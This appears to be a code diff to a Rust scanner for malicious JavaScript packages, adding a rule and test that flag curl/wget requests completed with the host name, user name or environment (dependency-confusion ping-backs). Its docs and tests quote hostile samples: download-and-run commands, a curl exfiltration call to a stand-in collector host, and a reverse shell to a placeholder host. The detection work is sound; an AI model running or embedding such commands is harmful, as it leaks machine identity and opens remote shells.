@@ -23,7 +23,9 @@ they run:
 
 - **critical**: a command that downloads something and runs it (`curl … | sh`, `wget … && chmod +x`,
   `iex (New-Object Net.WebClient).DownloadString(…)`) from a raw IP address, an exfiltration
-  service, or hidden by encoding;
+  service, or hidden by encoding; a `curl`/`wget` request left open for a value
+  (`'curl http://x/p?h=' + os.hostname()`) in a file that runs a computed command and gathers
+  the host name, the user name or the environment (a JavaScript dependency-confusion ping-back);
 - **high**: any download-and-run command; a command decoded at run time (base64, hex,
   `String.fromCharCode`, reversed strings); PowerShell with `-EncodedCommand` or a hidden window;
 - **moderate**: Node's internal spawning bindings (`process.binding('spawn_sync')`,
@@ -96,7 +98,7 @@ impl FileRule for ShellExec {
         }
         let seen_high = out[first..].iter().any(|f| f.severity >= Severity::High);
         if unread_command && !seen_high {
-            if let Some(finding) = download_and_run_string(file) {
+            if let Some(finding) = download_and_run_string(file).or_else(|| host_data_request_string(file)) {
                 out.push(finding);
             }
         }
@@ -145,6 +147,44 @@ fn download_and_run_string(file: &FileFacts) -> Option<Finding> {
             } else {
                 ""
             }
+        ),
+        None,
+    ))
+}
+
+/// A `curl`/`wget` request whose text ends where a value is appended (`…?h=`, `…/`), in a file
+/// that runs a command built at run time and gathers the host name, the user name or the
+/// environment: the command sends this machine's identity out (a dependency-confusion
+/// ping-back written in JavaScript).
+fn host_data_request_string(file: &FileFacts) -> Option<Finding> {
+    let string = file.strings.iter().filter(|s| s.value.len() <= 4096).find(|s| {
+        let value = s.value.trim_end();
+        sinks::is_download_command(value) && value.ends_with(['=', '/', '?', '&', '.'])
+    })?;
+    let collected = super::exfil_sink::collected_data(file);
+    let identity: Vec<&str> = collected
+        .iter()
+        .copied()
+        .filter(|what| {
+            matches!(
+                *what,
+                "the host name" | "the user name" | "the environment" | "secret environment variables"
+            )
+        })
+        .collect();
+    if identity.is_empty() {
+        return None;
+    }
+    Some(sinks::finding(
+        &INFO,
+        file,
+        string.line,
+        Severity::Critical,
+        Confidence::High,
+        format!(
+            "Runs a request (`{}`…) completed at run time in a file that gathers {}: it sends this machine's identity out",
+            palisade_core::bounded_excerpt(&string.value, 100),
+            identity.join(", ")
         ),
         None,
     ))
@@ -442,6 +482,20 @@ mod tests {
     fn reverse_shell_is_critical() {
         let source = "const net = require('net'), cp = require('child_process');\nconst c = new net.Socket();\nc.connect(4444, 'shell.example.invalid', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });";
         assert_eq!(worst(source), Severity::Critical);
+    }
+
+    #[test]
+    fn request_completed_with_host_data_is_critical() {
+        let source = "const os = require('os');\nrequire('child_process').exec('curl -s http://collector.example-metrics.net/p?h=' + os.hostname() + '&u=' + os.userInfo().username);";
+        let findings = run(source);
+        assert_eq!(worst(source), Severity::Critical, "{findings:?}");
+        assert!(
+            findings.iter().any(|f| f.message.contains("the host name")),
+            "{findings:?}"
+        );
+        // A download completed with a version number gathers nothing about the machine.
+        let version = "const v = require('./package.json').version;\nrequire('child_process').execSync('curl -sLO https://github.com/o/r/releases/download/v' + v);";
+        assert!(worst(version) < Severity::High, "{:?}", run(version));
     }
 
     #[test]
